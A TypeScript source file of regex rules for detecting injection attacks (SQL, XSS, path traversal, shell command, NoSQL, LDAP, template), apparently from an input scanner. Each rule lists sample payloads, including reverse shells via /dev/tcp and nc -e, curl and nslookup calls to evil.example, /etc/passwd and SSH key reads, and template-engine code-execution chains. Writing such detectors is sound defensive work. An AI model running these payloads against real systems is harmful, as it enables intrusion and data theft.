import { AttackPattern } from './attack-pattern';

// architecture-check: sql-shaped literals here are data, not queries (SQL-injection samples in `examples`).

/*
 * The rules, grouped by category. They see normalised text (lower case, decoded, single spaces), so
 * they are written in lower case with `\s?` for "optional whitespace".
 *
 * Writing a rule:
 * - Every quantifier is bounded (`{0,40}`) or applies to one character (`\s?`); no quantified group
 *   contains another quantifier; alternatives inside a quantified group never start alike. That keeps
 *   JavaScript's backtracking engine linear, and the linear-time spec checks it.
 * - A keyword on its own is not an attack: "Select", "Union Station" and "Drop Dead Gorgeous" are film
 *   titles. Each rule needs the syntax around the keyword (a quote closing a string, a shell separator,
 *   a tag opener) before it fires.
 * - Ids are stable and never reused; add new ones at the end of their category.
 */

const SHELL_SEPARATOR = String.raw`(?:[;|&\x60\n]|\$\()`;

// LDAP comparison operators: equality, approximate (~=), ordering (<=, >=).
const LDAP_FILTER_OPERATOR = String.raw`\s?[~<>]?=`;

// prettier-ignore
const HTML_EVENT_HANDLERS = [
  'abort', 'afterprint', 'animationend', 'animationstart', 'beforeprint', 'beforeunload', 'begin',
  'blur', 'canplay', 'change', 'click', 'contextmenu', 'copy', 'cut', 'dblclick', 'drag', 'dragstart',
  'drop', 'end', 'error', 'finish', 'focus', 'focusin', 'focusout', 'hashchange', 'input', 'invalid',
  'keydown', 'keypress', 'keyup', 'load', 'message', 'mousedown', 'mouseenter', 'mouseleave',
  'mousemove', 'mouseout', 'mouseover', 'mouseup', 'pageshow', 'paste', 'pointerdown', 'pointerenter',
  'pointerover', 'pointerup', 'popstate', 'readystatechange', 'reset', 'resize', 'scroll', 'search',
  'select', 'show', 'start', 'submit', 'toggle', 'touchstart', 'transitionend', 'unload', 'wheel',
].join('|');

const SQL_INJECTION: AttackPattern[] = [
  {
    id: 'SQLI-001',
    category: 'sql-injection',
    severity: 'high',
    description: 'UNION SELECT appending a second query to read other tables',
    regex: /\bunion\s?(?:all\s|distinct\s)?\(?\s?select\b/,
    examples: ["' union select null--", '1 union all select 1,2,3', 'union(select password from users)'],
  },
  {
    id: 'SQLI-002',
    category: 'sql-injection',
    severity: 'high',
    description: 'Quote closed then an always-true comparison (tautology) appended',
    regex: /['"]\)?\s?(?:(?:or|and|xor)\b|\|\||&&)\s?\(?['"]?\w{0,20}['"]?\s?(?:=|<>|!=|\blike\b)/,
    examples: ["' or '1'='1", '" or ""="', "') or ('a'='a", "admin' and 'x'='x"],
  },
  {
    id: 'SQLI-003',
    category: 'sql-injection',
    severity: 'high',
    description: 'Quote closed then a boolean operator with a numeric comparison, TRUE or a subquery',
    regex:
      /['"]\)?\s?(?:(?:or|and|xor)\b|\|\||&&)\s?\(?(?:\d{1,12}\s?(?:=|<|>|!=)|true\b|false\b|exists\s?\(|\(?\s?select\b|(?:sleep|ascii|ord|substring|substr|mid|length|char)\s?\()/,
    examples: ["' or 1=1--", "1' and (select 1)", "' or true--", "' and ascii(substring(user(),1,1))>64"],
  },
  {
    id: 'SQLI-004',
    category: 'sql-injection',
    severity: 'medium',
    description: 'Numeric tautology or contradiction (OR 1=1, AND 1=2) as in unquoted injections',
    regex: /\b(?:or|and|having)\s\(?\d{1,12}\s?(?:=|<|>)\s?\(?\d{1,12}\b/,
    examples: ['1 or 1=1', '1 and 1=2', "' having 1=1--"],
  },
  {
    id: 'SQLI-005',
    category: 'sql-injection',
    severity: 'medium',
    description: "Quote closed and the rest of the statement commented out (admin'--)",
    // Only glued to the quote (admin'--) or at the very end: prose has `"Dune" #scifi` and `'no' -- then`.
    regex: /\w['"]\)?(?:--|#)|['"]\)?\s?(?:--|#)\s?$/,
    examples: ["admin'--", "admin' #", "admin')--"],
  },
  {
    id: 'SQLI-006',
    category: 'sql-injection',
    severity: 'critical',
    description: 'Stacked query: a separator followed by a destructive or privileged statement',
    regex:
      /;\s?(?:drop\s(?:table|database|schema|user|view)\b|delete\sfrom\b|truncate\s(?:table\s)?\w|insert\sinto\b|update\s[\w.]{1,40}\sset\b|alter\s(?:table|user)\b|create\s(?:table|user|function)\b|exec(?:ute)?\s?(?:\(|@|xp_|sp_|master\.|immediate\b)|declare\s@|shutdown\b|grant\s|select\s(?:\*|pg_sleep|sleep|@@|\w{1,30}\sfrom\b))/,
    examples: ["'; drop table users; --", '1; delete from sessions', "'; exec xp_cmdshell('dir')"],
  },
  {
    id: 'SQLI-007',
    category: 'sql-injection',
    severity: 'high',
    description: 'Time-based blind probe (SLEEP, PG_SLEEP, BENCHMARK, WAITFOR DELAY)',
    // The call is glued to its parenthesis: "Sleep (2019)" is a title, "benchmark (46 tasks" is prose.
    regex:
      /\b(?:sleep|pg_sleep)\(\s?\d|\bbenchmark\(\s?\d|\bwaitfor\s(?:delay|time)\s'|\bdbms_pipe\.receive_message\b/,
    examples: ["1' and sleep(5)--", "'; waitfor delay '0:0:5'--", 'benchmark(1000000,md5(1))'],
  },
  {
    id: 'SQLI-008',
    category: 'sql-injection',
    severity: 'high',
    description: 'Reference to the database catalogue (information_schema, sysobjects, sqlite_master)',
    regex:
      /\binformation_schema\b|\b(?:sysobjects|syscolumns|sqlite_master|pg_catalog|pg_shadow|all_tab_columns|all_tables|mysql\.user|sys\.tables)\b/,
    examples: ['select table_name from information_schema.tables', 'from sqlite_master'],
  },
  {
    id: 'SQLI-009',
    category: 'sql-injection',
    severity: 'critical',
    description:
      'Database features that reach files, the network or the OS (LOAD_FILE, INTO OUTFILE, xp_cmdshell)',
    regex:
      /\bload_file\s?\(|\binto\s(?:out|dump)file\b|\bxp_(?:cmdshell|dirtree|regread)\b|\bsp_(?:oacreate|executesql|makewebtask)\b|\butl_(?:http|inaddr|file)\./,
    examples: [
      "union select load_file('/etc/passwd')",
      "into outfile '/var/www/x.php'",
      'exec master..xp_cmdshell',
    ],
  },
  {
    id: 'SQLI-010',
    category: 'sql-injection',
    severity: 'high',
    description: 'Error-based extraction functions and server fingerprinting (EXTRACTVALUE, @@version)',
    regex:
      /\b(?:extractvalue|updatexml|group_concat|concat_ws|make_set|exp\s?\(\s?~)\s?\(|@@(?:version|datadir|hostname|servername)\b|\b(?:version|current_user|user|database|schema)\s?\(\s?\)/,
    examples: ['and extractvalue(1,concat(0x7e,version()))', '1,@@version,3', 'select user()'],
  },
  {
    id: 'SQLI-011',
    category: 'sql-injection',
    severity: 'medium',
    description: 'Column-count probing after a closed quote (ORDER BY n, GROUP BY n)',
    regex: /['"\d]\)?\s?(?:order|group)\sby\s\d{1,3}\b/,
    examples: ["1' order by 3--", "' group by 1,2--"],
  },
  {
    id: 'SQLI-012',
    category: 'sql-injection',
    severity: 'medium',
    description: 'SELECT with SQL-only syntax: star, column list, aggregate or system variable',
    regex:
      /\bselect\s(?:\*|@@|null\b|count\s?\(|top\s\d|distinct\s|(?:concat|char|substring|substr|ascii|hex|mid|ifnull|cast)\s?\(|[\w.]{1,30}\s?,\s?[\w.@]{1,30}\sfrom\b)/,
    examples: ['select * from users', 'select username, password from users', 'select count(*) from t'],
  },
  {
    id: 'SQLI-013',
    category: 'sql-injection',
    severity: 'medium',
    description: 'Characters rebuilt from codes to slip quotes past filters (CHAR(113,118), CHR(65)||)',
    regex: /\b(?:char|nchar|chr)\s?\(\s?\d{1,3}\s?(?:,|\)\s?(?:\|\||\+|,))/,
    examples: ['union select char(113,118,112)', 'chr(65)||chr(66)'],
  },
  {
    id: 'SQLI-014',
    category: 'sql-injection',
    severity: 'medium',
    description: 'Subquery comparison or conversion used for blind/error extraction',
    regex: /(?:=|>|<)\s?\(\s?select\s|\bconvert\s?\(\s?int\s?,|\bcast\s?\(\s?\(?\s?select\b/,
    examples: ['and 1=(select count(*) from sysobjects)', 'and 1=convert(int,(select @@version))'],
  },
];

const XSS: AttackPattern[] = [
  {
    id: 'XSS-001',
    category: 'xss',
    severity: 'high',
    description: 'Script element opened or closed',
    regex: /<\s?\/?\s?script\b/,
    examples: ['<script>alert(1)</script>', '</script><script>', '< script src=//x>'],
  },
  {
    id: 'XSS-002',
    category: 'xss',
    severity: 'high',
    description: 'Inline event-handler attribute (onerror=, onload=, onfocus=)',
    regex: new RegExp(String.raw`\bon(?:${HTML_EVENT_HANDLERS})\s?=`),
    examples: ['<img src=x onerror=alert(1)>', '" onmouseover="alert(1)', '<svg/onload=alert(1)>'],
  },
  {
    id: 'XSS-003',
    category: 'xss',
    severity: 'high',
    description: 'javascript:, vbscript: or livescript: URL, also with whitespace between letters',
    // Browsers drop tabs and newlines inside a URL scheme, so `jav\tascript:` still runs; prose such as
    // "JavaScript: The Good Parts" has a space then a word after the colon, which is excluded.
    regex: /(?:j\s?a\s?v\s?a|v\s?b|l\s?i\s?v\s?e)\s?s\s?c\s?r\s?i\s?p\s?t\s?:(?!\s[a-z])/,
    examples: ['javascript:alert(1)', '<img src="jav\tascript:alert(\'xss\')">', 'vbscript:msgbox(1)'],
  },
  {
    id: 'XSS-004',
    category: 'xss',
    severity: 'high',
    description: 'data: URL carrying HTML or SVG, which browsers run as a document',
    regex: /\bdata:\s?(?:text\/html|image\/svg[\s+]xml|application\/(?:x-)?javascript|text\/javascript)/,
    examples: ['data:text/html,<script>alert(1)</script>', 'data:image/svg+xml;base64,phn2zz4='],
  },
  {
    id: 'XSS-005',
    category: 'xss',
    severity: 'medium',
    description: 'Element that loads or runs other content (iframe, object, embed, base, meta, form, link)',
    regex: /<\s?(?:i?frame|frameset|object|embed|applet|base|meta|form|isindex|link|svg|math|marquee)\b/,
    examples: ['<iframe src=//evil.example>', '<object data=x>', '<base href=//evil.example/>'],
  },
  {
    id: 'XSS-006',
    category: 'xss',
    severity: 'medium',
    description: 'Call to a dialog or eval with a literal argument, the usual XSS proof (alert(1))',
    // No space before the parenthesis: "Alert (2019)" and "Prompt (2021)" are titles with a year.
    regex:
      /\b(?:alert|prompt|confirm|eval)(?:\(\s?(?:['"\x60\d/]|document\b|window\b|atob\b|this\b|src\b|string\.)|\x60[^\x60\s]{1,40}\x60)/,
    examples: ['alert(1)', "prompt('xss')", 'alert`1`', "eval(atob('ywxlcnq='))"],
  },
  {
    id: 'XSS-007',
    category: 'xss',
    severity: 'high',
    description: 'Script access to cookies, the document location or page content',
    regex:
      /\bdocument\s?\.\s?(?:cookie|domain|write|location)\b|\bwindow\s?\.\s?location\b|\.innerhtml\s?=|\bstring\.fromcharcode\s?\(/,
    examples: ['document.cookie', "window.location='https://evil.example'", 'string.fromcharcode(88,83,83)'],
  },
  {
    id: 'XSS-008',
    category: 'xss',
    severity: 'medium',
    description: 'Attribute or element closed and a new tag opened ("><img, </title><script)',
    regex: /['"]\s?>\s?<\s?[a-z!/]|<\/(?:title|textarea|style|noscript|xmp|iframe|script)\s?>\s?</,
    examples: ['"><img src=x>', "'><svg>", '</title><b>'],
  },
  {
    id: 'XSS-009',
    category: 'xss',
    severity: 'medium',
    description: 'Style-based script execution (expression(), -moz-binding, behavior:, @import)',
    regex: /\bexpression\s?\(|-moz-binding\s?:|\bbehavior\s?:\s?url|@import\s?['"(]|<\s?style\b/,
    examples: ["width: expression(alert('xss'))", "<style>@import'http://x/x.css';</style>"],
  },
  {
    id: 'XSS-010',
    category: 'xss',
    severity: 'low',
    description: "Quote broken out of a JavaScript string to run an expression ('-alert(1)-', \";alert(1)//)",
    regex: /['"]\s?[-+;*]\s?(?:alert|prompt|confirm|eval)\b/,
    examples: ["'-alert(1)-'", '";alert(1);//'],
  },
];

const PATH_TRAVERSAL: AttackPattern[] = [
  {
    id: 'PATH-001',
    category: 'path-traversal',
    severity: 'high',
    description: 'Two or more parent-directory steps (../../), including filter-evading spellings',
    regex: /\.\.;?[/\\][^\s]{0,8}\.\.;?[/\\]/,
    examples: ['../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/passwd', '..;/..;/'],
  },
  {
    id: 'PATH-002',
    category: 'path-traversal',
    severity: 'high',
    description: 'Sensitive system or application file named by path (/etc/passwd, win.ini, .ssh/id_rsa)',
    // Dotfiles count only as a path segment (`../.env`): prose about tools says "load your .env file".
    regex:
      /(?:^|[/\\\s=:'"(])(?:etc[/\\](?:passwd|shadow|group|hosts|issue|sudoers|hostname|crontab)\b|proc[/\\]self[/\\]|(?:boot|win|system)\.ini\b|windows[/\\]system32[/\\]|system32[/\\](?:config|drivers)\b|id_(?:rsa|dsa|ecdsa|ed25519)\b|web\.config\b|wp-config\.php\b|database\.yml\b)|[/\\=](?:\.ssh[/\\]|\.htpasswd\b|\.htaccess\b|\.git[/\\](?:config|head)\b|\.env\b)/,
    examples: ['/etc/passwd', 'c:\\windows\\win.ini', '/home/u/.ssh/id_rsa', '../.env'],
  },
  {
    id: 'PATH-003',
    category: 'path-traversal',
    severity: 'medium',
    description: 'One parent-directory step at the start of a value or path segment (../secret)',
    regex: /(?:^|[\s=:'"(/\\])\.\.;?[/\\]\w/,
    examples: ['../config.yml', 'file=../secret', '/var/www/../etc'],
  },
  {
    id: 'PATH-004',
    category: 'path-traversal',
    severity: 'high',
    description: 'Local-file or archive stream wrapper (file://, php://filter, phar://, zip://)',
    regex:
      /\b(?:file:\/\/|php:\/\/(?:filter|input|stdin|fd|memory|temp)|phar:\/\/|zip:\/\/|compress\.zlib:\/\/|glob:\/\/|jar:file:)/,
    examples: ['file:///etc/passwd', 'php://filter/convert.base64-encode/resource=index.php'],
  },
  {
    id: 'PATH-005',
    category: 'path-traversal',
    severity: 'medium',
    description: 'Windows drive path into the system directory (c:\\windows\\...)',
    regex: /\b[a-z]:[/\\]{1,2}(?:windows|winnt|boot\.ini|inetpub)\b/,
    examples: ['c:\\windows\\system32\\drivers\\etc\\hosts', 'file:///c:/windows/win.ini'],
  },
];

const COMMAND_INJECTION: AttackPattern[] = [
  {
    id: 'CMD-001',
    category: 'command-injection',
    severity: 'critical',
    description: 'Shell separator followed by a program that has no everyday-English reading',
    regex: new RegExp(
      SHELL_SEPARATOR +
        String.raw`\s?\{?(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|powershell|pwsh|systeminfo|tasklist|chmod|chown|telnet|socat|busybox|crontab|useradd|certutil|bitsadmin|mshta|rundll32|regsvr32|mkfifo|hostname|xterm|nohup)\b`,
    ),
    examples: ['; whoami', '| uname -a', '&& nslookup evil.example', '`wget http://x`'],
  },
  {
    id: 'CMD-002',
    category: 'command-injection',
    severity: 'high',
    description: 'Shell separator followed by a common command used with command-line arguments',
    // Commands that are also English words ("cat", "more", "type", "node") follow `;` and `&` in prose
    // ("Chrome & more"), so they count only before arguments: a spaced flag, a path, a redirect.
    // Non-words (ls, id, pwd) may also end the value, as in `| id`; `sh` may not ("EN | FR | SH").
    regex: new RegExp(
      SHELL_SEPARATOR +
        String.raw`\s?\{?(?:(?:cat|dir|type|echo|touch|head|tail|more|less|find|env|kill|node|net|ping|sleep|cmd|nc|ls|id|pwd|ps|rm|cp|mv|bash|sh|zsh|ksh|python[23]?|perl|ruby|php|sudo|su|base64)(?:\s-{1,2}[a-z]|\s?[$%|;&]|\s?[<>]\s?[/~.$]|[\s,](?:[/\\~]|\.{1,2}/|[a-z]:\\))|(?:ls|id|pwd|ps|bash|zsh|ksh|sudo)\s?(?:$|[;|&\n])|(?:sleep|ping)\s\d)`,
    ),
    examples: ['; cat /etc/passwd', '| id', '; ls -la', '; ping -c 10 127.0.0.1', ';cat${ifs}/etc/passwd'],
  },
  {
    id: 'CMD-003',
    category: 'command-injection',
    severity: 'high',
    description: 'Command substitution $(...) or ${IFS} word splitting',
    regex: /\$\(\s?[a-z/]{2,20}(?:\s|\))|\$\{ifs\}|\$ifs\b/,
    examples: ['$(id)', '$(curl http://evil.example)', 'cat${ifs}/etc/passwd'],
  },
  {
    id: 'CMD-004',
    category: 'command-injection',
    severity: 'high',
    description: 'Backtick command substitution running a common command',
    regex:
      /\x60\s?(?:id|whoami|uname|cat|ls|wget|curl|ping|sleep|nc|bash|sh|echo|pwd|env|hostname|ifconfig|dir)\b[^\x60]{0,100}\x60/,
    examples: ['`id`', '`cat /etc/passwd`', '`sleep 5`'],
  },
  {
    id: 'CMD-005',
    category: 'command-injection',
    severity: 'critical',
    description: 'Reverse-shell or shell-spawning construct (/dev/tcp, nc -e, bash -i, /bin/sh)',
    // A bare trailing `| sh` is left out: "EN | SH" is a subtitle list (Serbo-Croatian). `curl … | sh`
    // is still caught by CMD-001 through the separator in front of curl.
    regex:
      /\/dev\/(?:tcp|udp)\/|\/bin\/(?:ba|z|k|da)?sh\b|\bbash\s-i\b|\bnc(?:at)?\s-{1,2}[a-z]{1,4}\s|\b\d>&\d\b|\|\s?(?:ba|z|k|da)sh\b|\|\s?sh\s?(?:-[a-z]|\))/,
    examples: ['bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 'nc -e /bin/sh 10.0.0.1 4444', 'wget -qo- x | bash'],
  },
  {
    id: 'CMD-006',
    category: 'command-injection',
    severity: 'high',
    description: 'Windows command interpreter invoked (cmd /c, powershell -c, net user)',
    regex: new RegExp(
      String.raw`\bcmd(?:\.exe)?\s?/[ck]\b|\bpowershell(?:\.exe)?\s-|%comspec%|` +
        SHELL_SEPARATOR +
        String.raw`\s?net\s(?:user|localgroup)\b`,
    ),
    examples: ['& cmd.exe /c whoami', 'powershell -nop -c iex', '& net user'],
  },
  {
    id: 'CMD-007',
    category: 'command-injection',
    severity: 'high',
    description: 'Shell separator followed by an absolute path to a binary (; /usr/bin/id)',
    regex: new RegExp(SHELL_SEPARATOR + String.raw`\s?/(?:usr/)?(?:local/)?s?bin/[a-z]`),
    examples: ['; /usr/bin/id', '\n/bin/cat /etc/passwd'],
  },
  {
    id: 'CMD-008',
    category: 'command-injection',
    severity: 'medium',
    description: 'Interpreter one-liner (python -c, perl -e, ruby -e, php -r)',
    regex: /\b(?:python[23]?|perl|ruby|php|node)\s-[ecr]\s?['"]/,
    examples: ["python -c 'import os'", "perl -e 'print 1'"],
  },
  {
    id: 'CMD-009',
    category: 'command-injection',
    severity: 'medium',
    description: 'Shell separator then echo redirected into a file (; echo x > /tmp/f)',
    regex: new RegExp(SHELL_SEPARATOR + String.raw`\s?echo\s[\w'"$.-]{1,40}\s?>{1,2}\s?[/~.$]`),
    examples: ['; echo vulnerable > /tmp/pwned', '| echo x >> ~/.bashrc'],
  },
];

const NOSQL_INJECTION: AttackPattern[] = [
  {
    id: 'NOSQL-001',
    category: 'nosql-injection',
    severity: 'high',
    description: 'MongoDB query operator as a JSON key ({"$ne": null}, {"$gt": ""})',
    regex:
      /['"]?\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|not|or|and|nor|expr|elemmatch|all|size|type|mod|text|function|accumulator|jsonschema)['"]?\s?:/,
    examples: ['{"$ne": null}', '{$gt: ""}', '{"$where": "sleep(1)"}'],
  },
  {
    id: 'NOSQL-002',
    category: 'nosql-injection',
    severity: 'high',
    description: 'MongoDB operator in form-field bracket syntax (password[$ne]=)',
    regex:
      /\[\s?\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|not|or|and|nor|expr|elemmatch|all|size|type)\s?\]/,
    examples: ['password[$ne]=x', 'user[$regex]=.*'],
  },
  {
    id: 'NOSQL-003',
    category: 'nosql-injection',
    severity: 'high',
    description: '$where clause, which runs JavaScript on the database server',
    regex: /\$where\b/,
    examples: ["true, $where: '1 == 1'"],
  },
  {
    id: 'NOSQL-004',
    category: 'nosql-injection',
    severity: 'high',
    description: 'Server-side JavaScript breakout: quote closed then || or && with a strict comparison',
    regex: /['"]\s?(?:\|\||&&)\s?(?:['"][^'"]{0,20}['"]|\d{1,12})\s?={2,3}/,
    examples: ["' || '1'=='1", "' || 1==1//"],
  },
  {
    id: 'NOSQL-005',
    category: 'nosql-injection',
    severity: 'high',
    description:
      'JavaScript statements injected into a query string (return true, this.password, while(true))',
    regex:
      /;\s?return\s(?:true|1|this|['"])|\bthis\.\w{1,30}\.(?:match|length)\b|\bwhile\s?\(\s?(?:true|1)\s?\)|['"]\s?;\s?sleep\s?\(\s?\d/,
    examples: ["'; return true; var x='", "' && this.password.match(/.*/)//", "'; while(true){}"],
  },
  {
    id: 'NOSQL-006',
    category: 'nosql-injection',
    severity: 'critical',
    description: 'MongoDB shell command (db.collection.find(), db.dropDatabase())',
    regex:
      /\bdb\.(?:\w{1,40}\.(?:find|findone|drop|insert|insertone|remove|update|updateone|deleteone|deletemany|aggregate)|dropdatabase|getcollection|getcollectionnames|eval|runcommand)\s?\(/,
    examples: ['db.users.find({})', 'db.dropdatabase()'],
  },
];

const LDAP_INJECTION: AttackPattern[] = [
  {
    id: 'LDAP-001',
    category: 'ldap-injection',
    severity: 'high',
    description: 'Filter closed and a boolean filter opened ()(|, )(&, )(!)',
    regex: /\)\s?\(\s?[|&!]/,
    examples: ['*)(|(objectclass=*)', 'admin)(&)', 'admin)(!(&(1=0)'],
  },
  {
    id: 'LDAP-002',
    category: 'ldap-injection',
    severity: 'high',
    description: 'Filter closed and another attribute comparison appended ()(uid=, )(cn=)',
    regex: new RegExp(String.raw`\)\s?\(\s?[a-z][a-z0-9-]{0,30}` + LDAP_FILTER_OPERATOR),
    examples: ['*)(uid=*', 'admin)(userpassword=*)'],
  },
  {
    id: 'LDAP-003',
    category: 'ldap-injection',
    severity: 'medium',
    description: 'Boolean filter opener followed by a comparison ((|(uid=, (&(objectclass=)',
    regex: new RegExp(String.raw`\(\s?[|&!]\s?\(?\s?[a-z][a-z0-9-]{0,30}` + LDAP_FILTER_OPERATOR),
    examples: ['(|(uid=*)(cn=*))', '(&(objectclass=user))', '((|userpassword=*)'],
  },
  {
    id: 'LDAP-004',
    category: 'ldap-injection',
    severity: 'medium',
    description: 'Presence filter on a well-known directory attribute ((objectclass=*), (userpassword=*))',
    regex:
      /\(\s?(?:uid|cn|sn|mail|objectclass|objectcategory|userpassword|password|samaccountname|memberof|givenname|description|ou|dc)\s?=\s?\*\s?\)/,
    examples: ['(objectclass=*)', '(userpassword=*)'],
  },
];

const TEMPLATE_INJECTION: AttackPattern[] = [
  {
    id: 'SSTI-001',
    category: 'template-injection',
    severity: 'high',
    description: 'Arithmetic probe in template delimiters ({{7*7}}, ${7*7}, <%= 7*7 %>)',
    regex: /(?:\{\{|\$\{|#\{|\*\{|@\(|<%|\[\[|\{%)\s?[=$]?\{?\s?\d{1,10}\s?[*/+-]\s?['"]?\d{1,10}/,
    examples: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', "{{7*'7'}}", '@(7*7)'],
  },
  {
    id: 'SSTI-002',
    category: 'template-injection',
    severity: 'critical',
    description:
      'Python object-graph traversal used to escape Jinja2/Django sandboxes (__class__, __globals__)',
    regex: /__(?:class|mro|base|bases|subclasses|globals|builtins|import|init|getattribute|dict|reduce)__/,
    examples: ["{{''.__class__.__mro__[1].__subclasses__()}}", '{{self.__init__.__globals__}}'],
  },
  {
    id: 'SSTI-003',
    category: 'template-injection',
    severity: 'high',
    description:
      'Template expression opening on configuration, request or helper objects ({{config}}, {{lipsum...}})',
    regex:
      /\{\{-?\s?(?:(?:config|self|request|lipsum|cycler|joiner|namespace|get_flashed_messages|url_for|_self|settings|constructor)\b|\$on\b|\[\s?['"])/,
    examples: [
      '{{config}}',
      '{{config.items()}}',
      "{{lipsum.__globals__['os']}}",
      "{{constructor.constructor('alert(1)')()}}",
    ],
  },
  {
    id: 'SSTI-004',
    category: 'template-injection',
    severity: 'critical',
    description: 'Java expression language reaching the runtime (T(java.lang.Runtime), getClass().forName)',
    regex:
      /\bt\s?\(\s?java\.|\bjava\.lang\.(?:runtime|processbuilder|system|class)\b|\.getclass\s?\(\s?\)|\.getruntime\s?\(|\$\{\s?(?:applicationscope|sessionscope|requestscope|pagecontext|facescontext)\b/,
    examples: ["${t(java.lang.runtime).getruntime().exec('id')}", "${''.getclass().forname('x')}"],
  },
  {
    id: 'SSTI-005',
    category: 'template-injection',
    severity: 'critical',
    description:
      'Template-engine directive that runs code (Twig _self.env, FreeMarker Execute, Velocity $class, Smarty {php})',
    regex:
      /<#assign\b|freemarker\.template\.utility|\?new\s?\(\s?\)|#set\s?\(\s?\$|\$class\.inspect|\{php\}|\{(?:system|exec|passthru|shell_exec)\s?\(|\{self::|\{\{#with\b|_self\.env\b|registerundefinedfiltercallback|\{%\s?(?:import|include|debug|php)\b|\|\s?(?:filter|map|reduce|sort)\s?\(\s?['"]?(?:system|exec|passthru|shell_exec|popen)/,
    examples: [
      '<#assign ex="freemarker.template.utility.execute"?new()>',
      '{php}echo 1;{/php}',
      '{% import os %}',
    ],
  },
  {
    id: 'SSTI-006',
    category: 'template-injection',
    severity: 'critical',
    description: 'Embedded Ruby/ERB tag calling the OS or the file system (<%= system("id") %>)',
    regex: /<%=?\s?(?:system|exec|eval|spawn|\x60|%x|io\.|file\.|dir\.|kernel\.|require\b|open\s?\()/,
    examples: ['<%= system("id") %>', '<%= `ls` %>', "<%= file.open('/etc/passwd').read %>"],
  },
  {
    id: 'SSTI-007',
    category: 'template-injection',
    severity: 'high',
    description: 'Node.js process or child_process reached from a template expression',
    regex: /\bchild_process\b|\bprocess\.mainmodule\b|\bglobal\.process\b|\bexecsync\s?\(|\.popen\s?\(/,
    examples: ["global.process.mainmodule.require('child_process').execsync('id')", "os.popen('id')"],
  },
];

export const ATTACK_PATTERNS: readonly AttackPattern[] = [
  ...SQL_INJECTION,
  ...XSS,
  ...PATH_TRAVERSAL,
  ...COMMAND_INJECTION,
  ...NOSQL_INJECTION,
  ...LDAP_INJECTION,
  ...TEMPLATE_INJECTION,
];
